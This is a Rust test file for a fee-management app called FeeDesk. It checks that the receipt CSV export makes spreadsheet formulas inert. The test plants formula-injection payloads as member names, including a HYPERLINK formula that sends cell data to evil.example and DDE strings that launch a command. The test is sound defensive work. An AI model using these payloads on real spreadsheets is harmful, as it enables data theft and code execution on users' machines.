//! Inert output: every CSV FeeDesk writes (the receipt export's `receipts.csv` is the one)
//! neutralises cells a spreadsheet would run, whatever names and fee items people typed.

use crate::support::receipts_support;

use feedesk::receipts::{self, ReceiptFilter};
use receipts_support::*;

const HOSTILE: [&str; 3] = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
];

#[tokio::test(flavor = "multi_thread")]
async fn the_receipt_manifest_runs_no_formula() {
    let dir = tempfile::tempdir().unwrap();
    let desk = open(dir.path(), TestClock::at(default_time())).await;
    let (one, _, _) = school(&desk).await;
    for (no, name) in ["S001", "S002", "S003"].iter().zip(HOSTILE) {
        tamper(
            &desk,
            &format!(
                "UPDATE members SET name = '{}' WHERE member_no = '{no}'",
                name.replace('\'', "''")
            ),
        )
        .await;
    }
    tamper(
        &desk,
        "UPDATE fee_items SET name = '+学费' WHERE name = '学费'",
    )
    .await;
    for (no, amount) in [("S001", "2800"), ("S002", "100"), ("S003", "2800")] {
        let b = bill_of(&desk, one, no).await;
        cash(&desk, b.id, amount, &format!("k-{no}")).await;
    }
    let out = dir.path().join("export.zip");
    receipts::export_zip(
        &desk,
        &ReceiptFilter {
            class_name: Some("XH/一班".into()),
            ..Default::default()
        },
        &out,
    )
    .await
    .unwrap();
    let mut zip = zip::ZipArchive::new(std::fs::File::open(&out).unwrap()).unwrap();
    let mut text = String::new();
    std::io::Read::read_to_string(&mut zip.by_name("receipts.csv").unwrap(), &mut text).unwrap();
    let text = text.trim_start_matches('\u{feff}');
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let headers = reader.headers().unwrap().clone();
    let col = |name: &str| headers.iter().position(|h| h == name).unwrap();
    let mut names = Vec::new();
    let mut rows = 0;
    for record in reader.records() {
        let record = record.unwrap();
        rows += 1;
        for cell in record.iter() {
            assert!(
                !feedesk::text::looks_like_formula(cell),
                "a cell that would run: {cell:?}"
            );
        }
        assert_eq!(&record[col("fee_item")], "'+学费");
        assert!(!record[col("amount")].starts_with('\''));
        names.push(record[col("member_name")].to_string());
    }
    assert_eq!(rows, 3);
    names.sort();
    let mut expected: Vec<String> = HOSTILE.iter().map(|n| format!("'{n}")).collect();
    expected.sort();
    assert_eq!(names, expected, "the names are kept, only made inert");
}
